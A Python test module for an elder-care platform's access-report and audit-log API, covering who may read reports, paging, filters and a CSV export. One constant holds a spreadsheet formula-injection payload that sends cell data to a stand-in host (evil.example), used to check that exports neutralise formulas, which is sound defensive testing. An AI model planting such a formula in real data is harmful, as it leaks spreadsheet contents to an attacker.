"""Access reports and audit queries through GraphQL and the CSV edge: the report lists who accessed what
(a staff read, a family read under consent, a denied integrator read), the compliance officer, the admin
and the resident's guardian read it and nobody else does, pages and filters, the CSV file (BOM, header
in the caller's language, formula injection guarded), and every reading and export is itself audited."""

import base64
import csv
import hashlib
import io
import uuid
from dataclasses import dataclass
from datetime import date

import httpx
import pytest

from care.models import CareLevel, Gender, Relationship
from care.residents import Admission, NewFamilyMember, add_family_member, admit_resident
from compliance.identity.account_models import AccountKind
from compliance.identity.accounts import NewAccount, add_family_link, add_staff_membership, create_account
from compliance.identity.clients import create_integrator_client
from compliance.principals import Principal, PrincipalKind, StaffRole
from schema.ids import encode_id
from tenants.registry import NewInstitution, provision_institution, tenant_ref
from tenants.unit_of_work import run_in_tenant
from tests.conftest import World, gql, token_for

NOTICE_SHA256 = hashlib.sha256("监护人授权告知书 v1".encode()).hexdigest()
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ENTRY_FIELDS = """occurredAt action access dataCategories purpose outcome reasonCode
  principal { subject kind roles clientId displayName }"""
REPORT = f"""query($id: ID!, $first: Int, $after: String, $since: DateTime, $until: DateTime) {{
  resident(id: $id) {{
    accessReport(first: $first, after: $after, since: $since, until: $until) {{
      totalCount pageInfo {{ hasNextPage endCursor }} edges {{ node {{ id {ENTRY_FIELDS} }} }}
    }}
  }}
}}"""
EVENTS = """query($filter: AuditEventFilterInput, $first: Int, $after: String) {
  auditEvents(filter: $filter, first: $first, after: $after) {
    totalCount pageInfo { hasNextPage endCursor }
    edges { node { id seq action access residentId outcome reasonCode requestId clientIp dataCategories
      principal { subject kind displayName } } }
  }
}"""
RECORD_CONSENT = """mutation($input: RecordConsentInput!) {
  recordConsent(input: $input) { consent { id } userErrors { field code } }
}"""
ZH_HEADER = [
    "时间",
    "姓名/名称",
    "访问主体",
    "主体类型",
    "角色",
    "客户端",
    "操作",
    "读/写",
    "数据类别",
    "目的",
    "结果",
    "原因",
]
EN_HEADER = [
    "Time",
    "Name",
    "Principal",
    "Kind of principal",
    "Roles",
    "Client",
    "Action",
    "Access",
    "Data categories",
    "Purpose",
    "Outcome",
    "Reason",
]


@dataclass(frozen=True)
class Home:
    institution_id: int
    resident: str
    officer: str  # tokens
    officer_subject: str
    admin: str
    nurse: str
    nurse_subject: str
    evil: str
    head_nurse: str
    caregiver: str
    son: str  # the guardian
    son_subject: str
    daughter: str  # follows the resident, no guardian
    daughter_subject: str
    integrator: str
    client_id: str
    son_member: str


async def _staff(institution_id: int, name: str, role: StaffRole) -> tuple[str, str]:
    account = await create_account(
        NewAccount(AccountKind.STAFF, f"report-{uuid.uuid4().hex[:10]}@example.com", name, "a-long-pass-77")
    )
    await add_staff_membership(account, institution_id, role)
    subject = f"account:{account.id}"
    principal = Principal(
        subject, PrincipalKind.STAFF, institution_id=institution_id, roles=frozenset({role})
    )
    return token_for(principal), subject


async def _family(institution_id: int, name: str, member: int, resident: int) -> tuple[str, str]:
    account = await create_account(
        NewAccount(AccountKind.FAMILY, f"report-{uuid.uuid4().hex[:10]}@example.com", name, "a-long-pass-77")
    )
    await add_family_link(account, institution_id, family_member_id=member, resident_id=resident)
    subject = f"account:{account.id}"
    return token_for(Principal(subject, PrincipalKind.FAMILY)), subject


async def new_home(name: str) -> Home:
    institution = await provision_institution(NewInstitution(name=name, region_code="test-east"))

    async def admit() -> tuple[int, int, int]:
        resident = await admit_resident(
            Admission("周桂兰", Gender.FEMALE, date(1936, 5, 6), CareLevel.ASSISTED, date(2026, 2, 1))
        )
        son = await add_family_member(resident.id, NewFamilyMember("儿子", Relationship.SON, "13700004444"))
        daughter = await add_family_member(
            resident.id, NewFamilyMember("女儿", Relationship.DAUGHTER, "13700005555")
        )
        return resident.id, son.id, daughter.id

    resident, son, daughter = await run_in_tenant(tenant_ref(institution), admit)
    home_id = institution.id
    officer, officer_subject = await _staff(home_id, "合规专员李静", StaffRole.COMPLIANCE_OFFICER)
    nurse, nurse_subject = await _staff(home_id, "护士王芳", StaffRole.NURSE)
    evil, _ = await _staff(home_id, EVIL_NAME, StaffRole.NURSE)
    son_token, son_subject = await _family(home_id, "儿子账户", son, resident)
    daughter_token, daughter_subject = await _family(home_id, "女儿账户", daughter, resident)
    created = await create_integrator_client(
        "血氧设备", scopes=["residents:read"], created_by="test", institution_id=home_id
    )
    client_id = created.client.client_id
    integrator = token_for(
        Principal(
            f"client:{client_id}",
            PrincipalKind.INTEGRATOR,
            institution_id=home_id,
            scopes=frozenset({"residents:read"}),
            client_id=client_id,
        )
    )

    def role(role: StaffRole) -> str:
        return token_for(
            Principal(
                f"account:{870_000 + uuid.uuid4().int % 10_000}",
                PrincipalKind.STAFF,
                institution_id=home_id,
                roles=frozenset({role}),
            )
        )

    return Home(
        institution_id=home_id,
        resident=encode_id("Resident", home_id, resident),
        officer=officer,
        officer_subject=officer_subject,
        admin=role(StaffRole.INSTITUTION_ADMIN),
        nurse=nurse,
        nurse_subject=nurse_subject,
        evil=evil,
        head_nurse=role(StaffRole.HEAD_NURSE),
        caregiver=role(StaffRole.CAREGIVER),
        son=son_token,
        son_subject=son_subject,
        daughter=daughter_token,
        daughter_subject=daughter_subject,
        integrator=integrator,
        client_id=client_id,
        son_member=encode_id("FamilyMember", home_id, son),
    )


@pytest.fixture(scope="module")
async def home(client: httpx.AsyncClient, world: World) -> Home:
    """A home where a nurse, the guardian (under consent), an integrator (refused) and a nurse with a
    formula for a name read the resident."""
    made = await new_home("访问报告测试养老院")
    read = "query($id: ID!) { resident(id: $id) { name } }"
    assert (await gql(client, read, {"id": made.resident}, token=made.nurse))["data"]["resident"]["name"]
    recorded = await gql(
        client,
        RECORD_CONSENT,
        {
            "input": {
                "residentId": made.resident,
                "grantor": {
                    "kind": "GUARDIAN",
                    "familyMemberId": made.son_member,
                    "authority": "LEGAL_GUARDIAN",
                },
                "grantee": {"kind": "FAMILY_MEMBER", "familyMemberId": made.son_member},
                "purposes": ["FAMILY_SHARING"],
                "categories": ["IDENTITY"],
                "noticeVersion": "v1",
                "noticeSha256": NOTICE_SHA256,
                "method": "IN_APP_CONFIRMATION",
            }
        },
        token=made.head_nurse,
    )
    assert recorded["data"]["recordConsent"]["userErrors"] == [], recorded
    son_read = await gql(client, read, {"id": made.resident}, token=made.son)
    assert son_read["data"]["resident"]["name"] == "周桂兰", son_read
    refused = await gql(
        client,
        "query($id: ID!) { resident(id: $id) { id vitals { totalCount } } }",
        {"id": made.resident},
        token=made.integrator,
    )
    assert [e["extensions"]["code"] for e in refused["errors"]] == ["FORBIDDEN"], refused
    assert (await gql(client, read, {"id": made.resident}, token=made.evil))["data"]["resident"]["name"]
    return made


def codes(body: dict) -> list[str]:
    return [error["extensions"]["code"] for error in body.get("errors", [])]


async def report_of(client: httpx.AsyncClient, home: Home, token: str, **variables: object) -> dict:
    body = await gql(client, REPORT, {"id": home.resident, **variables}, token=token)
    assert "errors" not in body, body
    return body["data"]["resident"]["accessReport"]


def seq_of(node_id: str) -> int:
    kind, _, seq = base64.urlsafe_b64decode(node_id + "=" * (-len(node_id) % 4)).decode().split(":")
    assert kind == "AuditEvent"
    return int(seq)


def nodes(connection: dict) -> list[dict]:
    return [edge["node"] for edge in connection["edges"]]


async def audit_events(client: httpx.AsyncClient, token: str, **filter: object) -> list[dict]:
    body = await gql(client, EVENTS, {"filter": filter, "first": 50}, token=token)
    assert "errors" not in body, body
    return nodes(body["data"]["auditEvents"])


async def test_the_report_lists_who_accessed_what(client: httpx.AsyncClient, home: Home) -> None:
    entries = nodes(await report_of(client, home, home.officer, first=100))
    times = [entry["occurredAt"] for entry in entries]
    assert times == sorted(times, reverse=True)  # newest first

    def by(subject: str, action: str) -> dict:
        (found,) = [e for e in entries if e["principal"]["subject"] == subject and e["action"] == action]
        return found

    nurse = by(home.nurse_subject, "resident.view")
    assert nurse["principal"] == {
        "subject": home.nurse_subject,
        "kind": "STAFF",
        "roles": ["nurse"],
        "clientId": "yiyang-tests",
        "displayName": "护士王芳",
    }
    assert (nurse["access"], nurse["dataCategories"], nurse["purpose"], nurse["outcome"]) == (
        "READ",
        ["IDENTITY"],
        "CARE_DELIVERY",
        "PERMITTED",
    )
    son = by(home.son_subject, "resident.view")
    assert (son["principal"]["kind"], son["principal"]["displayName"]) == ("FAMILY", "儿子账户")
    assert (son["purpose"], son["outcome"], son["reasonCode"]) == ("FAMILY_SHARING", "PERMITTED", None)
    integrator = by(f"client:{home.client_id}", "vitals.view")
    assert integrator["principal"]["kind"] == "INTEGRATOR"
    assert integrator["principal"]["displayName"] == "血氧设备"
    assert integrator["principal"]["clientId"] == home.client_id
    assert (integrator["outcome"], integrator["dataCategories"]) == ("DENIED", ["VITALS"])
    assert integrator["reasonCode"]
    assert any(e["action"] == "consent.record" and e["access"] == "WRITE" for e in entries)

    # Reading the report is on the record too: the officer's reading, about this resident, no categories.
    (read,) = await audit_events(
        client, home.officer, action="access_report.view", principalSubject=home.officer_subject
    )
    assert (read["residentId"], read["outcome"], read["dataCategories"]) == (home.resident, "PERMITTED", [])
    assert read["principal"]["displayName"] == "合规专员李静" and read["requestId"]
    # ... and so is reading the audit log.
    viewed = await audit_events(client, home.officer, action="audit.view")
    assert viewed and viewed[0]["principal"]["subject"] == home.officer_subject
    assert viewed[0]["residentId"] is None


async def test_who_may_read_the_report(client: httpx.AsyncClient, home: Home, world: World) -> None:
    assert (await report_of(client, home, home.admin))["totalCount"] > 0
    guardian = await report_of(client, home, home.son)
    assert guardian["totalCount"] > 0

    for token in (home.daughter, home.caregiver, home.head_nurse, home.nurse):
        body = await gql(client, REPORT, {"id": home.resident}, token=token)
        assert codes(body) == ["FORBIDDEN"], body
        assert body["data"] is None
    supervisor = token_for(
        Principal("account:870001", PrincipalKind.SUPERVISOR, region_ids=frozenset({1, 2}))
    )
    assert codes(await gql(client, REPORT, {"id": home.resident}, token=supervisor)) == ["FORBIDDEN"]
    assert codes(await gql(client, EVENTS, {}, token=supervisor)) == ["FORBIDDEN"]
    for token in (home.nurse, home.caregiver, home.son):
        assert codes(await gql(client, EVENTS, {}, token=token)) == ["FORBIDDEN"]

    elsewhere = await new_home("访问报告另一养老院")
    assert codes(await gql(client, REPORT, {"id": home.resident}, token=elsewhere.officer)) == ["NOT_FOUND"]
    foreign = await gql(client, EVENTS, {"filter": {"residentId": home.resident}}, token=elsewhere.officer)
    assert codes(foreign) == ["NOT_FOUND"] and foreign["data"] is None
    # The other home's log holds nothing of this one's.
    theirs = await audit_events(client, elsewhere.officer)
    assert all(event["residentId"] in (None, elsewhere.resident) for event in theirs)

    # The refusals of family members about this resident are on the record, with their reason.
    denied = await audit_events(client, home.officer, action="access_report.view", outcome="DENIED")
    reasons = {(event["principal"]["subject"], event["reasonCode"]) for event in denied}
    assert (home.daughter_subject, "not_guardian") in reasons
    assert {reason for _, reason in reasons} == {"not_guardian", "forbidden"}


async def test_pages_and_filters(client: httpx.AsyncClient, home: Home) -> None:
    # The admin pages (each caller has a budget of operations per minute: schema/rate_limits.py).
    everything = nodes(await report_of(client, home, home.admin, first=100))
    seen: list[str] = []
    after = None
    while True:
        page = await report_of(client, home, home.admin, first=3, after=after)
        seen += [node["id"] for node in nodes(page)]
        if not page["pageInfo"]["hasNextPage"]:
            break
        after = page["pageInfo"]["endCursor"]
    # Every request adds events about the resident (the resident's read, the report's reading), newer than
    # every cursor: the pages still hold each older event once, newest first.
    seqs = [seq_of(node_id) for node_id in seen]
    assert seqs == sorted(set(seqs), reverse=True)
    newest = max(seq_of(node["id"]) for node in everything)
    assert [seq for seq in seqs if seq <= newest] == [seq_of(node["id"]) for node in everything]

    log = await gql(client, EVENTS, {"first": 3}, token=home.officer)
    first = log["data"]["auditEvents"]
    seqs = [edge["node"]["seq"] for edge in first["edges"]]
    assert seqs == sorted(seqs, reverse=True) and len(seqs) == 3 and first["pageInfo"]["hasNextPage"]
    following = await gql(
        client, EVENTS, {"first": 3, "after": first["pageInfo"]["endCursor"]}, token=home.officer
    )
    more = [edge["node"]["seq"] for edge in following["data"]["auditEvents"]["edges"]]
    assert more and max(more) < min(seqs)

    nurse_only = await audit_events(client, home.officer, principalSubject=home.nurse_subject)
    assert nurse_only and {event["principal"]["subject"] for event in nurse_only} == {home.nurse_subject}
    denied = await audit_events(client, home.officer, outcome="DENIED", residentId=home.resident)
    assert denied and {event["outcome"] for event in denied} == {"DENIED"}
    assert {event["residentId"] for event in denied} == {home.resident}

    assert (await report_of(client, home, home.officer, until="2000-01-01T00:00:00Z"))["totalCount"] == 0
    assert (await report_of(client, home, home.officer, since="2000-01-01T00:00:00Z"))["totalCount"] > 0
    none = await audit_events(
        client, home.officer, since="2000-01-01T00:00:00+08:00", until="2000-01-02T00:00:00"
    )
    assert none == []

    impossible = {"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00Z"}
    body = await gql(client, REPORT, {"id": home.resident, **impossible}, token=home.officer)
    assert codes(body) == ["BAD_USER_INPUT"] and body["errors"][0]["extensions"]["field"] == "until"
    assert codes(await gql(client, EVENTS, {"filter": impossible}, token=home.officer)) == ["BAD_USER_INPUT"]
    assert codes(await gql(client, EVENTS, {"after": "nonsense!"}, token=home.officer)) == ["BAD_USER_INPUT"]
    assert codes(await gql(client, EVENTS, {"filter": {"residentId": "nonsense!"}}, token=home.officer)) == [
        "BAD_USER_INPUT"
    ]


def export_path(home: Home) -> str:
    return f"/exports/residents/{home.resident}/access-report.csv"


async def export(client: httpx.AsyncClient, path: str, token: str | None, **headers: str) -> httpx.Response:
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    return await client.get(path, headers=headers)


def parsed(response: httpx.Response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_the_csv_export(client: httpx.AsyncClient, home: Home) -> None:
    # An officer of its own: the earlier tests spent much of the module officer's rate-limit budget.
    officer, officer_subject = await _staff(home.institution_id, "合规专员陈", StaffRole.COMPLIANCE_OFFICER)
    response = await export(client, export_path(home), officer)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["cache-control"] == "no-store"
    header, *rows = parsed(response)
    assert header == ZH_HEADER

    # The rows are the report up to the export (whose own event is the newest entry afterwards).
    entries = nodes(await report_of(client, home, officer, first=100))
    assert entries[0]["action"] == "access_report.export"
    assert entries[0]["principal"]["subject"] == officer_subject
    assert [(row[2], row[6], row[10]) for row in rows] == [
        (entry["principal"]["subject"], entry["action"], entry["outcome"].lower()) for entry in entries[1:]
    ]
    nurse = next(row for row in rows if row[2] == home.nurse_subject and row[6] == "resident.view")
    assert nurse[1] == "护士王芳" and nurse[3] == "staff" and nurse[4] == "nurse"
    assert (nurse[7], nurse[8], nurse[9], nurse[10]) == ("read", "identity", "care_delivery", "permitted")
    assert nurse[0].endswith("+08:00")  # the institution's time
    # A display name that is a formula is written as text.
    (evil,) = [row for row in rows if row[1].startswith("'")]
    assert evil[1] == "'" + EVIL_NAME
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    english = parsed(await export(client, export_path(home), officer, **{"Accept-Language": "en-GB,en"}))
    assert english[0] == EN_HEADER
    window = await export(client, export_path(home) + "?since=2000-01-01&until=2000-01-31", officer)
    assert parsed(window) == [ZH_HEADER]
    today = await export(client, export_path(home) + "?since=2000-01-01", home.admin)
    assert len(parsed(today)) > 1
    guardian = await export(client, export_path(home), home.son)
    assert guardian.status_code == 200 and len(parsed(guardian)) > 1

    # The exports are audited: who, about whom, permitted or denied.
    assert (await export(client, export_path(home), home.daughter)).status_code == 403
    exported = await audit_events(client, home.admin, action="access_report.export")  # the admin may too
    outcomes = {(event["principal"]["subject"], event["outcome"], event["reasonCode"]) for event in exported}
    assert (officer_subject, "PERMITTED", None) in outcomes
    assert (home.son_subject, "PERMITTED", None) in outcomes
    assert (home.daughter_subject, "DENIED", "not_guardian") in outcomes
    assert {event["residentId"] for event in exported} == {home.resident}


async def test_the_csv_export_refusals(client: httpx.AsyncClient, home: Home) -> None:
    path = export_path(home)
    anonymous = await export(client, path, None)
    assert anonymous.status_code == 401 and anonymous.json()["error"] == "unauthenticated"
    assert anonymous.headers["www-authenticate"].startswith("Bearer")
    for token in (home.nurse, home.caregiver, home.daughter):
        refused = await export(client, path, token)
        assert refused.status_code == 403 and refused.json()["error"] == "forbidden"
    elsewhere = await new_home("访问报告导出另一养老院")
    assert (await export(client, path, elsewhere.officer)).status_code == 404
    missing = f"/exports/residents/{encode_id('Resident', home.institution_id, 999_999)}/access-report.csv"
    assert (await export(client, missing, home.officer)).status_code == 404
    bad_id = await export(client, "/exports/residents/nonsense!/access-report.csv", home.officer)
    assert bad_id.status_code == 400 and bad_id.json()["error"] == "bad_user_input"
    bad_date = await export(client, path + "?since=yesterday", home.officer, **{"Accept-Language": "zh-CN"})
    assert bad_date.status_code == 400 and "2026-12-01" in bad_date.json()["error_description"]
    backwards = await export(client, path + "?since=2026-12-02&until=2026-12-01", home.officer)
    assert backwards.status_code == 400
    assert backwards.json()["error_description"] == "时间范围的开始必须早于结束。"


ADD_STAFF = """mutation($input: AddStaffMemberInput!) { addStaffMember(input: $input) {
  staffMember { id roles } userErrors { field code } } }"""
SET_ROLES = """mutation($input: SetStaffRolesInput!) { setStaffRoles(input: $input) {
  staffMember { id roles } userErrors { field code } } }"""


async def test_the_admin_appoints_a_compliance_officer(client: httpx.AsyncClient, home: Home) -> None:
    # The shared schema's CHECK on the role (migrations/shared/0009) takes the new role.
    given = {
        "login": f"officer-{uuid.uuid4().hex[:8]}@example.com",
        "displayName": "合规专员赵敏",
        "roles": ["COMPLIANCE_OFFICER"],
        "initialPassword": "a-long-passphrase-9",
    }
    added = await gql(client, ADD_STAFF, {"input": given}, token=home.admin)
    member = added["data"]["addStaffMember"]
    assert member["userErrors"] == [] and member["staffMember"]["roles"] == ["COMPLIANCE_OFFICER"], added
    changed = await gql(
        client,
        SET_ROLES,
        {"input": {"staffMemberId": member["staffMember"]["id"], "roles": ["NURSE", "COMPLIANCE_OFFICER"]}},
        token=home.admin,
    )
    assert set(changed["data"]["setStaffRoles"]["staffMember"]["roles"]) == {"NURSE", "COMPLIANCE_OFFICER"}
